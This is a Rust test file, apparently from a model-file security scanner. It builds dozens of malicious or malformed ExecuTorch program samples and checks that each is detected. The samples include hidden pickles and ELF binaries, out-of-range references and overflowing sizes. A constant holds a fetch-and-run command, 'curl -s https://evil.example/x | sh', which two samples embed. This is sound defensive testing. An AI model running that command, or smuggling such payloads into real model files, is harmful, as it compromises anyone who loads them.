//! `ExecuTorch` programs that run more than they say, refer to what is not there, or hide something.

use weighhouse_formats::build::executorch::{
    bare, call, declared, delegate, file, plain, program, tensor, value,
};
use weighhouse_formats::build::flatbuffer::Table;
use weighhouse_formats::build::zip::{Archive, Member};

use super::containers::payload;
use super::programs::elf;
use crate::attack::{Sample, assert_seen};

const COMMAND: &str = "import os; os.system('curl -s https://evil.example/x | sh')";

fn running(operator: &str) -> Vec<u8> {
    bare(&program(&[operator], vec![value(tensor(&[2]))], vec![], vec![call(0, &[0])]))
}

fn delegated(id: &str, blob: Vec<u8>) -> Vec<u8> {
    file(&program(&[], vec![value(tensor(&[2]))], vec![delegate(id, 0)], vec![]), &[blob])
}

fn constant(sizes: &[i32], data: Vec<u8>) -> Vec<u8> {
    let table =
        program(&["aten::relu"], vec![value(tensor(sizes).number(5, 1))], vec![], vec![call(0, &[0])]);
    file(&table.table(5, Table::new().number(0, 0).longs(1, &[0, 0])), &[data])
}

fn steps(steps: Vec<Table>) -> Vec<u8> {
    bare(&program(&["aten::relu"], vec![value(tensor(&[2]))], vec![], steps))
}

fn values(values: Vec<Table>) -> Vec<u8> {
    bare(&program(&["aten::relu"], values, vec![], vec![call(0, &[0])]))
}

fn placed(memory: u64, low: u64, high: u64) -> Vec<u8> {
    values(vec![value(tensor(&[2]).table(6, Table::new().number(0, memory).number(1, low).number(2, high)))])
}

fn segment(offset: u64, size: u64) -> Vec<u8> {
    declared(&plain().tables(4, vec![Table::new().number(0, offset).number(1, size)]), &[7; 64], 64)
}

fn named(name: &str, data: Vec<u8>) -> Vec<u8> {
    file(&plain().tables(7, vec![Table::new().text(0, name)]), &[data])
}

#[test]
fn delegates_payloads_and_lies() {
    let specified = |value: &[u8]| {
        let delegate =
            delegate("XnnpackBackend", 0).tables(2, vec![Table::new().text(0, "x").bytes(1, value)]);
        file(&program(&[], vec![value_of()], vec![delegate], vec![]), &[vec![0; 4]])
    };
    let jump = |to: u64| Table::new().number(0, 4).table(1, Table::new().number(1, to));
    let overlapping = {
        let list = vec![Table::new().number(0, 0).number(1, 48), Table::new().number(0, 32).number(1, 32)];
        declared(&plain().tables(4, list), &[7; 64], 64)
    };
    let inline = |data: &[u8]| {
        let delegate = Table::new().text(0, "XnnpackBackend").table(1, Table::new());
        let table = program(&[], vec![value_of()], vec![delegate], vec![]);
        bare(&table.tables(3, vec![Table::new().bytes(0, data)]))
    };
    let archive = Archive::of([Member::deflated("data.pkl", &payload())]).build();
    let samples: Vec<Sample> = [
        ("a program for a delegate", delegated("XnnpackBackend", elf())),
        ("a pickle for a delegate", delegated("CoreMLBackend", payload())),
        ("an archive with a pickle for a delegate", delegated("QnnBackend", archive.clone())),
        ("a library as named data", named("forward_so_blob", elf())),
        ("a pickle as named data", named("weights", payload())),
        ("a pickle as a constant", constant(&[2], payload())),
        ("a program as a constant", constant(&[2], elf())),
        ("a pickle in a delegate's settings", specified(&payload())),
        ("a command in a delegate's settings", specified(COMMAND.as_bytes())),
        ("a pickle inside the program", inline(&payload())),
        ("a program inside the program", inline(&elf())),
        (
            "a command as a text",
            values(vec![Table::new().number(0, 6).table(1, Table::new().text(0, COMMAND))]),
        ),
        ("a pickle behind the program", [bare(&plain()), payload()].concat()),
        ("a program behind the segments", [constant(&[2], vec![0; 8]), elf()].concat()),
        ("an archive behind the program", [bare(&plain()), archive].concat()),
        ("bytes between program and segments", declared(&plain(), &[0x90; 64], 64)),
        ("a file mapped into memory", running("aten::from_file")),
        ("a missing operator", steps(vec![call(99, &[0])])),
        ("a missing value", steps(vec![call(0, &[1_000_000])])),
        ("a negative value", steps(vec![call(0, &[-7])])),
        (
            "a move of a missing value",
            steps(vec![Table::new().number(0, 3).table(1, Table::new().number(0, 77))]),
        ),
        ("a missing delegate", steps(vec![Table::new().number(0, 2).table(1, Table::new().number(0, 5))])),
        ("a jump out of the chain", steps(vec![jump(1 << 20)])),
        ("an endless jump", steps(vec![jump(0)])),
        ("dimensions that overflow", values(vec![value(tensor(&[i32::MAX, i32::MAX]))])),
        ("a negative dimension", values(vec![value(tensor(&[-100]))])),
        ("ten thousand dimensions", values(vec![value(tensor(&[1; 10_000]))])),
        ("an unknown type", values(vec![value(tensor(&[1]).number(0, 200))])),
        ("an order of dimensions that are missing", values(vec![value(tensor(&[1]).bytes(3, &[200]))])),
        ("a missing memory", placed(77, 0, 0)),
        ("behind its memory", placed(1, 1 << 20, 0)),
        ("far behind its memory", placed(1, 0, 1 << 31)),
        ("more shape than data", constant(&[4096], vec![0; 16])),
        ("missing data", values(vec![value(tensor(&[2]).number(5, 999))])),
        ("a segment behind all", segment(1 << 20, 64)),
        ("a segment at the end of all numbers", segment(u64::MAX, 999_999_999)),
        ("a huge segment", segment(0, u64::MAX)),
        ("segments that share bytes", overlapping),
        ("segments without a header", bare(&plain().tables(4, vec![Table::new().number(1, 8)]))),
        (
            "named data of a missing segment",
            bare(&plain().tables(7, vec![Table::new().text(0, "w").number(1, 9)])),
        ),
        (
            "a delegate without data",
            bare(&program(&[], vec![value_of()], vec![delegate("XnnpackBackend", 7)], vec![])),
        ),
        ("memory of a terabyte", {
            let plan = Table::new().text(0, "forward").longs(8, &[0, 1 << 40]);
            bare(&Table::new().tables(1, vec![plan]))
        }),
    ]
    .into_iter()
    .map(|(title, bytes)| Sample::new(title, "model.pte", bytes))
    .collect();
    assert_seen("executorch", &samples);
}

fn value_of() -> Table {
    value(tensor(&[2]))
}
